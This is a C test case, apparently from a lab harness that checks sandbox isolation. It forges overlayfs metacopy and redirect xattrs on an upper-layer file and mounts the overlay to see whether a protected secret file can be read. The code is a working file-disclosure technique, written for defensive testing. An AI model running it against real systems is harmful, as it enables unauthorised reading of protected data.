// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G2. Builds an overlay whose upper layer says of one of its files that its data are those of
 * /dev/shm/lab/secret, by the attributes that overlayfs itself would write (metacopy, redirect).
 * Source: overlayfs documentation, "Metadata only copy up": "do not mount untrusted layers". Control:
 * the secret is read.
 */
#define _GNU_SOURCE
#include <string.h>
#include <sys/mount.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "attack.h"
#include "files.h"
#include "mounts.h"

static void mark(const char *name, const char *value, size_t length)
{
	if (setxattr("/tmp/lab-redirect/upper/open", name, value, length, 0))
		no_effect(errno);
}

void attack(void)
{
	stage("files");
	mount_new("tmpfs", "/tmp/lab-redirect");
	make_directory("/tmp/lab-redirect/upper");
	make_directory("/tmp/lab-redirect/work");
	make_directory("/tmp/lab-redirect/view");
	drop_text("", "/tmp/lab-redirect/upper/open");
	if (truncate("/tmp/lab-redirect/upper/open", strlen(STAGE_SECRET) + 1))
		no_effect(errno);
	mark("trusted.overlay.metacopy", "", 0);
	mark("trusted.overlay.redirect", "secret", 6);
	if (mount("none", "/tmp/lab-redirect/view", "overlay", 0,
		  "lowerdir=" SHM ",upperdir=/tmp/lab-redirect/upper,workdir=/tmp/lab-redirect/work,"
		  "redirect_dir=on,metacopy=on"))
		no_effect(errno);
	judge_file("/tmp/lab-redirect/view/open", STAGE_SECRET);
}
